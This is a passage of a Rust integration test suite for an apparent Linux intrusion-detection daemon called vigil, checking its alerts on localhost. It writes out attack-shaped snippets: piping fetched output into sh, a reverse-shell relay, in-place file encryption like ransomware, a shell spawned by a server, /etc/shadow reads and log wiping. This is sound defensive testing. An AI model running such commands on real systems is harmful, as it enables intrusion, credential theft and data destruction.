        "/usr/bin/python3 -c \"import socket, sys; c = socket.create_connection(('127.0.0.1', {port})); sys.stdout.buffer.write(c.recv(65536))\""
    );
    let pipelines = run_pipelines(&[
        format!("sh -c \"$({fetch})\"; true"),
        format!("sh -c \"$({fetch})\""),
        format!("v=$({fetch}); sh -c 'true'"),
        format!("{fetch} | grep -c . >/dev/null; python3 -c 'import os\nx = 1'"),
        format!("sh -c \"$(cat {})\"", script.display()),
        // A script whose own output goes down a pipe: the fetch writes into that pipe, which
        // the script does not read.
        format!("( {fetch}; /usr/bin/python3 -c 'import os\nx = 1' ) | cat >/dev/null"),
    ]);
    assert_eq!(fs::read_to_string(&ran).expect("the scripts ran").lines().count(), 3);

    wait_for_alerts(&daemon, alerts_before + 2);
    let (_, events) = daemon.stop();
    // The first line's `sh` is forked by its bash; the second's replaces its bash.
    let forked = sh_under(&events, pipelines[0]);
    let in_place = pipelines[1].to_string();
    assert!(
        events.iter().any(|e| e["type"] == "exec" && e["pid"].as_u64() == Some(u64::from(pipelines[1])) && e["argv"][0] == "sh"),
        "the second line's bash did not exec sh in its place"
    );
    for reader in [&forked, &in_place] {
        let found = entries(&cursor, &format!("the download-piped-to-shell alert of {reader}"), |e| {
            f(e, "VIGIL_REASON") == "download-piped-to-shell" && f(e, "VIGIL_PID") == *reader
        });
        if let Some(a) = found.first() {
            let detail = f(a, "VIGIL_DETAIL");
            assert!(
                detail.contains(" runs a script given in its arguments, started after /usr/bin/python3 (pid ")
                    && detail.ends_with("which made an internet connection, wrote into a pipe its parent read"),
                "{a}"
            );
        }
    }
    if let Some(c) = &cursor {
        let others = read_vigil_entries(c, Duration::from_secs(1), |e| {
            let reason = f(e, "VIGIL_REASON");
            (reason == "download-piped-to-shell" || reason == "decoded-payload-to-shell")
                && f(e, "VIGIL_PID") != forked
                && f(e, "VIGIL_PID") != in_place
        });
        assert!(others.is_empty(), "a fetched value, a pipeline or a local file was alerted: {others:?}");
    }
}

/// The relayed reverse shell live: a Python client that connected starts `/bin/sh` on a pipe
/// and writes what the connection sent into it; the shell is alerted as `reverse-shell-relay`,
/// naming its parent. The same pipe from a parent that never connected, and a connected
/// parent's `sh -c` (which runs its argument, not the pipe), are not.
#[test]
fn a_shell_fed_through_its_connected_parent_is_alerted_and_other_parents_are_not() {
    let test = "a_shell_fed_through_its_connected_parent_is_alerted_and_other_parents_are_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("relay");
    let marker = dir.join("relayed-script-ran");
    let daemon = Daemon::start("relay", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);

    let script = dir.join("script.sh");
    fs::write(&script, format!("touch {}\n", marker.display())).expect("script");
    let (_server, port) = serve_twice(&script);
    // Each prints the pid of the shell it started.
    let relay = |connect: bool, shell: &str| {
        let source = if connect {
            format!("socket.create_connection(('127.0.0.1', {port})).recv(65536)")
        } else {
            "b'true\\n'".to_owned()
        };
        let code = format!(
            "import socket, subprocess\ndata = {source}\np = subprocess.Popen({shell}, stdin=subprocess.PIPE)\np.stdin.write(data); p.stdin.close(); p.wait()\nprint(p.pid)"
        );
        let out = Command::new("/usr/bin/python3").args(["-c", &code]).output().expect("python");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).expect("pid").trim().to_owned()
    };
    let relayed = relay(true, "['/bin/sh']");
    assert!(marker.exists(), "the relayed script did not run");
    let unconnected = relay(false, "['/bin/sh']");
    let with_c = relay(true, "['/bin/sh', '-c', 'cat >/dev/null']");

    wait_for_alerts(&daemon, alerts_before + 1);
    daemon.stop();
    let found = entries(&cursor, "the reverse-shell-relay alert", |e| {
        f(e, "VIGIL_REASON") == "reverse-shell-relay" && f(e, "VIGIL_PID") == relayed
    });
    if let Some(a) = found.first() {
        let detail = f(a, "VIGIL_DETAIL");
        assert!(
            detail.contains("reads its program from a pipe set up by its parent /usr/bin/python3")
                && detail.ends_with("which made or accepted an internet connection"),
            "{a}"
        );
    }
    if let Some(c) = &cursor {
        let quiet = [unconnected, with_c];
        let others = incidents_on(c, "reverse-shell-relay", &quiet);
        assert!(others.is_empty(), "an unconnected parent or sh -c was alerted: {others:?}");
    }
}

/// Reads one pid per line from a child's stdout until `n` have come.
fn read_pids(out: &mut impl std::io::BufRead, n: usize) -> Vec<String> {
    (0..n)
        .map(|_| {
            let mut line = String::new();
            out.read_line(&mut line).expect("a pid");
            line.trim().to_owned()
        })
        .collect()
}

/// A running process that renames itself like a kernel thread (`prctl(PR_SET_NAME)`, what
/// miners do once started, with no exec to see) is alerted once, naming the thread and the
/// name; a thread pool naming its workers, even `kworker-pool`, is not.
#[test]
fn a_thread_renamed_like_a_kernel_thread_is_alerted_and_thread_pools_are_not() {
    let test = "a_thread_renamed_like_a_kernel_thread_is_alerted_and_thread_pools_are_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let daemon = Daemon::start("renamed", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    let out = Command::new("/usr/bin/python3")
        .args(["-c", "import ctypes, os, threading\n\
            libc = ctypes.CDLL(None)\n\
            def pool():\n    libc.prctl(15, b'kworker-pool', 0, 0, 0); libc.prctl(15, b'worker-3', 0, 0, 0)\n\
            t = threading.Thread(target=pool); t.start(); t.join()\n\
            assert libc.prctl(15, b'[kworker/0:1]', 0, 0, 0) == 0\n\
            print(os.getpid())"])
        .output()
        .expect("python3");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let pid = String::from_utf8(out.stdout).expect("pid").trim().to_owned();
    wait_for_alerts(&daemon, alerts_before + 1);
    daemon.stop();
    let found = entries(&cursor, "the fake-kernel-thread alert", |e| {
        f(e, "VIGIL_REASON") == "fake-kernel-thread" && f(e, "VIGIL_PID") == pid
    });
    if let Some(a) = found.first() {
        assert_eq!(
            f(a, "VIGIL_DETAIL"),
            format!("prctl(PR_SET_NAME) of thread {pid} to `[kworker/0:1]`, which passes for a kernel thread"),
            "{a}"
        );
        assert_eq!(found.len(), 1, "the pool's names are not disguises: {found:?}");
    }
}

/// Mass encryption in place on the real kernel: a Python locker that overwrites 30 documents
/// where they lie (`r+b`), a shell loop that puts `openssl enc`'s output back over each file
/// and one that moves it onto each file are alerted, each once; a formatter rewriting the same
/// documents as text, `sed -i` (a copy renamed onto each) and `cp` of compressed files over
/// their copies are not.
#[test]
fn encryption_in_place_is_alerted_and_rewriting_text_or_compressed_files_is_not() {
    let test = "encryption_in_place_is_alerted_and_rewriting_text_or_compressed_files_is_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("in-place");
    let prose = "Minutes of the meeting: budget, hiring, the new office, and what comes next.\n".repeat(40);
    for sub in ["locked", "scripted", "moved", "formatted", "edited"] {
        fs::create_dir_all(dir.join(sub)).expect("dir");
        for i in 0..30 {
            fs::write(dir.join(sub).join(format!("doc{i}.txt")), format!("{i}\n{prose}")).expect("doc");
        }
    }
    let setup = Command::new("/usr/bin/python3")
        .args(["-c", "import gzip, os, sys\nfor d in ('src', 'dst'):\n    os.makedirs(os.path.join(sys.argv[1], d))\nfor i in range(30):\n    open(os.path.join(sys.argv[1], 'src', f'a{i}.gz'), 'wb').write(gzip.compress(os.urandom(6000)))"])
        .arg(dir.join("gz"))
        .status()
        .expect("python3");
    assert!(setup.success());
    let daemon = Daemon::start("in-place", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    let run = |cmd: &mut Command| {
        let mut child = cmd.spawn().expect("spawn");
        let pid = child.id().to_string();
        assert!(child.wait().expect("wait").success(), "{cmd:?}");
        pid
    };
    // Copied twice: the second copy writes over the first.
    let cp = (0..2)
        .map(|_| run(Command::new("cp").arg("-rT").arg(dir.join("gz/src")).arg(dir.join("gz/dst"))))
        .collect::<Vec<_>>();
    let formatter = run(Command::new("/usr/bin/python3")
        .args(["-c", "import os, sys\nfor n in sorted(os.listdir('.')):\n    t = open(n).read()\n    open(n, 'w').write(t.upper())"])
        .current_dir(dir.join("formatted")));
    let locker = run(Command::new("/usr/bin/python3")
        .args(["-c", "import os\nfor n in sorted(os.listdir('.')):\n    with open(n, 'r+b') as f:\n        d = f.read(); f.seek(0); f.write(os.urandom(len(d)))"])
        .current_dir(dir.join("locked")));
    let script = run(Command::new("bash")
        .args(["-c", "for f in *.txt; do openssl enc -aes-256-ctr -pbkdf2 -pass pass:k -in \"$f\" -out \"$f.tmp\" && cat \"$f.tmp\" >\"$f\" && rm \"$f.tmp\"; done"])
        .current_dir(dir.join("scripted")));
    let moved = run(Command::new("bash")
        .args(["-c", "for f in *.txt; do openssl enc -aes-256-ctr -pbkdf2 -pass pass:k -in \"$f\" -out \"$f.tmp\" && mv \"$f.tmp\" \"$f\"; done"])
        .current_dir(dir.join("moved")));
    let sed = run(Command::new("bash").args(["-c", "for f in *.txt; do sed -i s/budget/costs/ \"$f\"; done"]).current_dir(dir.join("edited")));
    for sub in ["scripted", "moved"] {
        assert!(fs::read(dir.join(sub).join("doc0.txt")).expect("doc").starts_with(b"Salted__"), "{sub}");
    }

    wait_for_alerts(&daemon, alerts_before + 3);
    daemon.stop();
    let Some(c) = &cursor else { return };
    for (what, pid) in [("the locker", &locker), ("the openssl loop's shell", &script), ("the openssl and mv loop's shell", &moved)] {
        let found = entries(&cursor, what, |e| f(e, "VIGIL_REASON") == "mass-encryption" && f(e, "VIGIL_PID") == *pid);
        let a = found.first().expect("found");
        assert_eq!(found.len(), 1, "{what}: once: {found:?}");
        let detail = f(a, "VIGIL_DETAIL");
        // Usually at its own 12th file; sooner when the test process, which started every
        // writer here, was due a look first and found this one's files among its latest.
        let counted = detail.split(' ').next().and_then(|n| n.parse::<usize>().ok());
        assert!(
            counted.is_some_and(|n| (4..=30).contains(&n))
                && detail.contains(" files rewritten in place within 30s; ")
                && detail.contains(" read back look encrypted, e.g. /")
                && detail.ends_with(" bits per byte, in no known file format)"),
            "{what}: {a}"
        );
    }
    let quiet: Vec<String> = cp.into_iter().chain([formatter, sed]).collect();
    let others = incidents_on(c, "mass-encryption", &quiet);
    assert!(others.is_empty(), "cp of compressed files, a formatter or sed -i was alerted: {others:?}");
}

/// A web shell's shape on the real kernel: a Python server that starts a shell after it
/// accepted a connection (itself, or from the worker it forked for one, or after an accept
/// that did not ask for the peer's address) is alerted with the server named; the same server
/// before it accepted anything, and a client that only connected, are not.
#[test]
fn a_shell_started_by_a_network_server_is_alerted_and_one_started_by_a_client_is_not() {
    let test = "a_shell_started_by_a_network_server_is_alerted_and_one_started_by_a_client_is_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let daemon = Daemon::start("server-shell", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    // Each `shell()` prints the pid of the /bin/sh it started.
    let prelude = "import ctypes, os, socket, subprocess\n\
         def shell():\n    p = subprocess.Popen('true', shell=True); p.wait(); print(p.pid, flush=True)\n\
         s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(4)\n\
         print(s.getsockname()[1], flush=True)\n";
    let server = |body: &str| {
        let mut child = Reap(
            Command::new("/usr/bin/python3")
                .args(["-c", &format!("{prelude}{body}")])
                .stdout(Stdio::piped())
                .spawn()
                .expect("python3"),
        );
        let out = std::io::BufReader::new(child.0.stdout.take().expect("stdout"));
        (child, out)
    };
    let connect = |port: &str| std::net::TcpStream::connect(format!("127.0.0.1:{port}")).expect("connect");

    let (serving, mut out) = server(
        "shell()\n\
         c, _ = s.accept(); shell(); c.close()\n\
         c, _ = s.accept()\n\
         pid = os.fork()\n\
         if pid == 0:\n    shell(); os._exit(0)\n\
         os.waitpid(pid, 0)\n",
    );
    let server_pid = serving.0.id().to_string();
    let port = read_pids(&mut out, 1).remove(0);
    let before = read_pids(&mut out, 1).remove(0);
    let _first = connect(&port);
    let served = read_pids(&mut out, 1).remove(0);
    let _second = connect(&port);
    let from_worker = read_pids(&mut out, 1).remove(0);

    let (_bare, mut out) = server("libc = ctypes.CDLL(None)\nfd = libc.accept(s.fileno(), None, None)\nshell()\n");
    let port = read_pids(&mut out, 1).remove(0);
    let _third = connect(&port);
    let unaddressed = read_pids(&mut out, 1).remove(0);

    let listener = TcpListener::bind("127.0.0.1:0").expect("listener");
    let client_port = listener.local_addr().expect("addr").port();
    let client = Command::new("/usr/bin/python3")
        .args(["-c", &format!(
            "import socket, subprocess\nc = socket.create_connection(('127.0.0.1', {client_port}))\n\
             p = subprocess.Popen('true', shell=True); p.wait(); print(p.pid)"
        )])
        .output()
        .expect("client");
    assert!(client.status.success(), "{}", String::from_utf8_lossy(&client.stderr));
    let from_client = String::from_utf8(client.stdout).expect("pid").trim().to_owned();

    wait_for_alerts(&daemon, alerts_before + 3);
    daemon.stop();
    let Some(c) = &cursor else { return };
    for (what, pid) in [("served", &served), ("from the forked worker", &from_worker), ("after accept(fd, NULL, NULL)", &unaddressed)] {
        let found = entries(&cursor, what, |e| {
            f(e, "VIGIL_REASON") == "network-server-spawns-shell" && f(e, "VIGIL_PID") == *pid
        });
        let a = found.first().expect("found");
        assert_eq!(f(a, "VIGIL_EVENT"), "alert", "{what}: {a}");
        let detail = f(a, "VIGIL_DETAIL");
        assert!(
            detail.contains("started by the network server /usr/bin/python3")
                && detail.ends_with("which last accepted a connection from 127.0.0.1"),
            "{what}: {a}"
        );
        if *pid != unaddressed {
            assert!(detail.contains(&format!("(pid {server_pid})")), "{what}: the server, not its worker: {a}");
        }
    }
    assert!(incidents_on(c, "network-server-spawns-shell", &[&before]).is_empty(), "a shell before the server accepted anything was alerted");
    assert!(incidents_on(c, "network-server-spawns-shell", &[&from_client]).is_empty(), "a client's shell was alerted");
}

/// File rules on the real kernel: a watched file read through a relative path, a new file
/// written under a watched directory after the policy loaded and another moved in there (both
/// killed), and the shipped default's credential and log rules (a log emptied, then removed),
/// each journaled with the path the kernel resolved.
#[test]
fn watched_files_are_seen_by_inode_whatever_path_opened_them() {
    let test = "watched_files_are_seen_by_inode_whatever_path_opened_them";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("files");
    let secret = dir.join("secret");
    fs::write(&secret, "s3cret\n").unwrap();
    fs::create_dir_all(dir.join("drop")).unwrap();
    let policy_dir = dir.join("policy.d");
    fs::create_dir_all(&policy_dir).unwrap();
    fs::write(
        policy_dir.join("50-test.toml"),
        format!(
            "[[rule.file]]\nname = \"test-secret-read\"\naction = \"alert\"\npath = [\"{0}/secret\"]\naccess = [\"read\"]\n\n\
             [[rule.file]]\nname = \"test-drop-write\"\naction = \"kill\"\npath = [\"{0}/drop/*.sh\"]\naccess = [\"write\"]\n",
            dir.display()
        ),
    )
    .unwrap();
    let daemon = Daemon::start("files", &["--policy-dir", policy_dir.to_str().unwrap()]);

    // A relative path from inside the directory: the kernel resolved it, the watch is the inode.
    let reader = Command::new("sh")
        .args(["-c", "cd \"$1\" && exec cat ./secret", "sh"])
        .arg(&dir)
        .stdout(Stdio::piped())
        .spawn()
        .expect("cat");
    let reader_pid = reader.id().to_string();
    let out = reader.wait_with_output().expect("cat");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "s3cret\n");

    // The watched file replaced as useradd and passwd replace /etc/shadow, by a new file renamed
    // over it: the watch follows the name within moments, not at the next minute's refresh.
    let fresh = dir.join("secret.new");
    fs::write(&fresh, "s3cret2\n").unwrap();
    fs::rename(&fresh, &secret).unwrap();
    daemon.wait_for("the rename over the watched file", Duration::from_secs(10), |e| {
        e["type"] == "path_change" && e["role"] == "renamed_to" && e["path"] == secret.display().to_string()
    });
    let deadline = Instant::now() + Duration::from_secs(10);
    let rereader_pid = loop {
        let cat = Command::new("cat").arg(&secret).stdout(Stdio::null()).spawn().expect("cat");
        let pid = cat.id();
        assert!(Reap(cat).0.wait().expect("cat").success());
        std::thread::sleep(Duration::from_millis(200));
        if daemon.events().iter().any(|e| e["type"] == "file_open" && e["pid"] == pid) {
            break pid.to_string();
        }
        assert!(Instant::now() < deadline, "reads of the replaced file unseen 10 s after the rename");
    };

    // A name the policy's glob covers but that did not exist when the policy was resolved.
    let dropped = dir.join("drop/payload.sh");
    let mut writer = Command::new("sh")
        .args(["-c", "echo 'id' > \"$1\" && exec sleep 30", "sh"])
        .arg(&dropped)
        .spawn()
        .expect("writer");
    let writer_pid = writer.id().to_string();
    let status = wait_exit(&mut writer, Duration::from_secs(10));
    let _ = writer.kill();
    let _ = writer.wait();
    let status = status.expect("the writer of a watched name was not killed within 10 s");
    assert_eq!(status.signal(), Some(9), "killed, not exited: {status:?}");
    assert!(dropped.exists(), "the open happened before the kill");

    // A payload moved in rather than written there, as `mv FILE DIR/` does it: renamed to a
    // name relative to a dirfd of the directory, which the kernel resolves from that
    // directory's inode. (The mover stays, to be killed: `mv` itself is gone by then.)
    let staged = dir.join("staged.sh");
    fs::write(&staged, "id\n").unwrap();
    let mut mover = Command::new("python3")
        .args([
            "-c",
            "import os, sys, time\n\
             d = os.open(sys.argv[2], os.O_RDONLY | os.O_DIRECTORY)\n\
             os.rename(sys.argv[1], 'staged.sh', dst_dir_fd=d)\n\
             time.sleep(30)\n",
        ])
        .arg(&staged)
        .arg(dir.join("drop"))
        .spawn()
        .expect("mover");
    let mover_pid = mover.id().to_string();
    let status = wait_exit(&mut mover, Duration::from_secs(10));
    let _ = mover.kill();
    let _ = mover.wait();
    let status = status.expect("the mover of a watched name was not killed within 10 s");
    assert_eq!(status.signal(), Some(9), "killed, not exited: {status:?}");
    assert!(dir.join("drop/staged.sh").exists(), "the rename happened before the kill");

    // The shipped default: reading the password hashes, and emptying a log.
    let shadow = Command::new("cat")
        .arg("/etc/shadow")
        .stdout(Stdio::null())
        .spawn()
        .expect("cat /etc/shadow");
    let shadow_pid = shadow.id().to_string();
    assert!(Reap(shadow).0.wait().expect("cat").success());
    let log = PathBuf::from(format!("/var/log/vigil-test-{}.log", std::process::id()));
    let truncate = Command::new("sh")
        .args(["-c", ": > \"$1\"", "sh"])
        .arg(&log)
        .spawn()
        .expect("truncate");
    let truncate_pid = truncate.id().to_string();
    assert!(Reap(truncate).0.wait().expect("sh").success());
    let remover = Command::new("rm").arg(&log).spawn().expect("rm");
    let remover_pid = remover.id().to_string();
    assert!(Reap(remover).0.wait().expect("rm").success());

    let read = entries(&cursor, "the watched file's read", |e| {
        f(e, "VIGIL_REASON") == "test-secret-read" && f(e, "VIGIL_PID") == reader_pid
    });
    if let Some(a) = read.first() {
        assert_eq!(f(a, "VIGIL_EVENT"), "alert", "{a}");
        assert_eq!(
            f(a, "VIGIL_DETAIL"),
            format!("open of {} for read (fd 3)", secret.display()),
            "{a}"
        );
    }
    let reread = entries(&cursor, "the replaced file's read", |e| {
        f(e, "VIGIL_REASON") == "test-secret-read" && f(e, "VIGIL_PID") == rereader_pid
    });
    if let Some(a) = reread.first() {
        assert_eq!(f(a, "VIGIL_DETAIL"), format!("open of {} for read (fd 3)", secret.display()), "{a}");
    }
    let kill = entries(&cursor, "the kill of the watched name's writer", |e| {
        f(e, "VIGIL_REASON") == "test-drop-write" && f(e, "VIGIL_PID") == writer_pid
    });
    if let Some(k) = kill.first() {
        assert_eq!(f(k, "VIGIL_EVENT"), "kill", "{k}");
        assert!(
            f(k, "VIGIL_DETAIL").starts_with(&format!("open of {} for write", dropped.display())),
            "{k}"
        );
    }
    let moved = entries(&cursor, "the kill of the watched name's mover", |e| {
        f(e, "VIGIL_REASON") == "test-drop-write" && f(e, "VIGIL_PID") == mover_pid
    });
    if let Some(k) = moved.first() {
        assert_eq!(
            f(k, "VIGIL_DETAIL"),
            format!("rename onto {} (renameat)", dir.join("drop/staged.sh").display()),
            "{k}"
        );
    }
    let creds = entries(&cursor, "the shipped credential-read alert", |e| {
        f(e, "VIGIL_REASON") == "credential-read" && f(e, "VIGIL_PID") == shadow_pid
    });
    if let Some(a) = creds.first() {
        assert_eq!(f(a, "VIGIL_DETAIL"), "open of /etc/shadow for read (fd 3)", "{a}");
    }
    let emptied = entries(&cursor, "the shipped log-tamper alert", |e| {
        f(e, "VIGIL_REASON") == "log-tamper" && f(e, "VIGIL_PID") == truncate_pid
    });
    if let Some(a) = emptied.first() {
        assert_eq!(
            f(a, "VIGIL_DETAIL"),
            format!("open of {} for write+truncate+rewrite (fd 3)", log.display()),
            "{a}"
        );
    }
    let removed = entries(&cursor, "the shipped log-tamper alert on rm", |e| {
        f(e, "VIGIL_REASON") == "log-tamper" && f(e, "VIGIL_PID") == remover_pid
    });
    if let Some(a) = removed.first() {
        assert_eq!(f(a, "VIGIL_DETAIL"), format!("unlink of {} (unlinkat)", log.display()), "{a}");
    }
    // Without journald (outside CI) the daemon's own counters still have to show it.
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let r = &daemon.status()["response"];
        if r["alerts"].as_u64().unwrap_or(0) >= 4 && r["kills"].as_u64().unwrap_or(0) >= 2 {
            break;
        }
        assert!(Instant::now() < deadline, "four alerts and two kills: {r}");
        std::thread::sleep(Duration::from_millis(200));
    }
    drop(daemon);
    let _ = fs::remove_dir_all(&dir);
}

/// `cmdline` rules see what a program was asked to do: a drop-in kill rule on a marker in the
/// arguments kills that exec and spares the same program without it, and the shipped
/// `crontab-installed-by-script` alerts on `crontab -` (a copy of `true` under that name, so
/// no crontab is touched) but not on `crontab -l`. Each incident carries the command line.
#[test]
fn command_line_rules_act_on_the_arguments_and_spare_lookalikes() {
    let test = "command_line_rules_act_on_the_arguments_and_spare_lookalikes";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("cmdline");
    let policy_d = dir.join("policy.d");
    fs::create_dir_all(&policy_d).expect("policy.d");
    let marker = format!("vigil-cmdline-kill-{}", std::process::id());
    fs::write(
        policy_d.join("50-marker.toml"),
        format!("[[rule.exec]]\nname = \"marker-kill\"\naction = \"kill\"\ncmdline = ['(^| ){marker}( |$)']\n"),
    )
    .expect("drop-in");
    let policy_dir = policy_d.display().to_string();
    let daemon = Daemon::start_enforcing("cmdline", &["--policy-dir", &policy_dir]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);

    // A builtin that waits on a pipe kept open: the shell neither forks nor execs, so the
    // killed process is still the one that matched.
    let mut marked = Command::new("/bin/sh")
        .args(["-c", "read x; true", &marker])
        .stdin(Stdio::piped())
        .spawn()
        .expect("spawn");
    let marked_pid = marked.id().to_string();
    let status = wait_exit(&mut marked, Duration::from_secs(10));
    let _ = marked.kill();
    let status = status.unwrap_or_else(|| panic!("the marked exec was not killed; log:\n{}", daemon.log()));
    assert_eq!(status.signal(), Some(libc::SIGKILL), "{status:?}");
    let mut spared = Command::new("/bin/sh").args(["-c", "sleep 0.2", &format!("{marker}-not")]).spawn().expect("spawn");
    let spared_pid = spared.id().to_string();
    assert!(spared.wait().expect("wait").success(), "the lookalike was harmed");

    let crontab = copy_bin("/usr/bin/true", &dir, "crontab");
    let mut pids = vec![];
    for arg in ["-l", "-"] {
        let mut child = Command::new(&crontab).arg(arg).stdin(Stdio::null()).spawn().expect("spawn");
        pids.push(child.id().to_string());
        assert!(child.wait().expect("wait").success());
    }
    wait_for_alerts(&daemon, alerts_before + 1);

    let killed = entries(&cursor, "the marker-kill kill", |e| {
        f(e, "VIGIL_REASON") == "marker-kill" && f(e, "VIGIL_PID") == marked_pid
    });
    if let Some(k) = killed.first() {
        assert_eq!(f(k, "VIGIL_CMDLINE"), format!("/bin/sh -c read x; true {marker}"), "{k}");
    }
    let alerted = entries(&cursor, "the crontab-installed-by-script alert", |e| {
        f(e, "VIGIL_REASON") == "crontab-installed-by-script" && f(e, "VIGIL_PID") == pids[1]
    });
    if let Some(a) = alerted.first() {
        assert_eq!(f(a, "VIGIL_CMDLINE"), format!("{} -", crontab.display()), "{a}");
    }
    // `crontab -l` ran before `crontab -`: by the latter's alert, anything about it or the
    // spared shell is in the journal.
    drop(daemon);
    if let Some(c) = &cursor {
        let others = read_vigil_entries(c, Duration::from_secs(1), |e| {
            f(e, "VIGIL_PID") == pids[0] || f(e, "VIGIL_PID") == spared_pid
        });
        assert!(others.is_empty(), "lookalikes alerted: {others:?}");
    }
}

/// Signals another process sends vigil are alerted on the sender: a shell's `kill -STOP`, read
/// once the shell's `kill -CONT` lets vigil run again (the SIGCONT itself is not reported). A
/// vigil ended by SIGKILL cannot say so; the next one started on its state directory reports
/// the gap as a loss incident naming the killed vigil.
#[test]
fn signals_sent_to_vigil_are_alerted_and_a_killed_vigil_is_reported_by_the_next() {
    let test = "signals_sent_to_vigil_are_alerted_and_a_killed_vigil_is_reported_by_the_next";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let daemon = Daemon::start("signalled", &[]);
    let vigil = daemon.pid();
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    let out = Command::new("/bin/sh")
        .args(["-c", &format!("kill -STOP {vigil}; sleep 0.3; kill -CONT {vigil}; echo $$")])
        .output()
        .expect("sh");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let sender = String::from_utf8(out.stdout).expect("pid").trim().to_owned();
    wait_for_alerts(&daemon, alerts_before + 1);
    let state = daemon.dir.join("state");
    // Drop kills it with SIGKILL: no shutdown, its run marker stays.
    drop(daemon);
    let next = Daemon::start("signalled-next", &["--state-dir", &state.display().to_string()]);
    next.stop();
    let found = entries(&cursor, "the agent-signalled alert", |e| {
        f(e, "VIGIL_REASON") == "agent-signalled" && f(e, "VIGIL_PID") == sender
    });
    if let Some(a) = found.first() {
        assert_eq!(
            f(a, "VIGIL_DETAIL"),
            format!("SIGSTOP sent to vigil (pid {vigil}), which stops it: nothing is acted on until it is continued"),
            "{a}"
        );
        assert_eq!(found.len(), 1, "SIGCONT is not reported: {found:?}");
    }
    let gap = entries(&cursor, "the killed vigil's gap", |e| {
        f(e, "VIGIL_EVENT") == "loss" && f(e, "VIGIL_PREVIOUS_PID") == vigil.to_string()
    });
    if let Some(g) = gap.first() {
        assert!(f(g, "MESSAGE").contains("ended during this boot without shutting down"), "{g}");
    }
}

/// The shipped default's `system-program-write`: a program copied into /usr/sbin and a library
/// moved into the multiarch library directory are alerted, naming the writer; reading a system
/// program and writing under /usr/local are not. The test's own files are removed after.
#[test]
fn a_program_or_library_written_into_the_system_s_own_directories_is_alerted() {
    let test = "a_program_or_library_written_into_the_system_s_own_directories_is_alerted";
    if !require_root(test) {
        return;
    }
    let libdir = Path::new("/usr/lib/x86_64-linux-gnu");
    if !libdir.is_dir() || !Path::new("/usr/local/bin").is_dir() {
        println!("{test}: skipped: no {} or /usr/local/bin", libdir.display());
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let tag = std::process::id();
    let program = PathBuf::from(format!("/usr/sbin/vigil-test-trojan-{tag}"));
    let library = libdir.join(format!("libvigil-test-{tag}.so"));
    let local = PathBuf::from(format!("/usr/local/bin/vigil-test-local-{tag}"));
    struct Remove(Vec<PathBuf>);
    impl Drop for Remove {
        fn drop(&mut self) {
            for p in &self.0 {
                let _ = fs::remove_file(p);
            }
        }
    }
    let _remove = Remove(vec![program.clone(), library.clone(), local.clone()]);
    let staged = scratch("system-program").join("libx.so");
    fs::copy("/usr/bin/true", &staged).expect("stage the library");
    let daemon = Daemon::start("system-program", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    let run = |program: &str, args: &[&str]| {
        let mut child = Command::new(program).args(args).stdout(Stdio::null()).spawn().expect(program);
        let pid = child.id().to_string();
        assert!(child.wait().expect(program).success(), "{program} {args:?}");
        pid
    };
    let copier = run("cp", &["/usr/bin/true", program.to_str().unwrap()]);
    let mover = run("mv", &[staged.to_str().unwrap(), library.to_str().unwrap()]);
    let reader = run("cat", &["/usr/bin/true"]);
    let local_copier = run("cp", &["/usr/bin/true", local.to_str().unwrap()]);
    wait_for_alerts(&daemon, alerts_before + 2);
    drop(daemon);
    for (pid, what) in [(&copier, program.display().to_string()), (&mover, library.display().to_string())] {
        let found = entries(&cursor, &format!("the system-program-write alert of {pid}"), |e| {
            f(e, "VIGIL_REASON") == "system-program-write" && f(e, "VIGIL_PID") == *pid
        });
        if let Some(a) = found.first() {
            assert!(f(a, "VIGIL_DETAIL").contains(&what), "{a}");
        }
    }
    if let Some(c) = &cursor {
        let quiet = incidents_on(c, "system-program-write", &[&reader, &local_copier]);
        assert!(quiet.is_empty(), "{quiet:?}");
    }
}

/// The shipped default's `bpf-hook-load`: a process loading a kprobe program (what an eBPF
/// rootkit does before it attaches) is alerted, naming the program; one loading a socket
/// filter, as packet capture does, is not.
#[test]
fn a_bpf_program_hooking_the_kernel_is_alerted_and_a_socket_filter_is_not() {
    let test = "a_bpf_program_hooking_the_kernel_is_alerted_and_a_socket_filter_is_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let daemon = Daemon::start("bpf-hook", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    // bpf(BPF_PROG_LOAD) of `r0 = 0; exit` with the given type, through ctypes.
    let load = |prog_type: u32, name: &str| {
        let out = Command::new("/usr/bin/python3")
            .args(["-c", "import ctypes, os, struct, sys\n\
                libc = ctypes.CDLL(None, use_errno=True)\n\
                insns = ctypes.create_string_buffer(struct.pack('<BBhiBBhi', 0xb7, 0, 0, 0, 0x95, 0, 0, 0))\n\
                lic = ctypes.create_string_buffer(b'GPL')\n\
                attr = ctypes.create_string_buffer(128)\n\
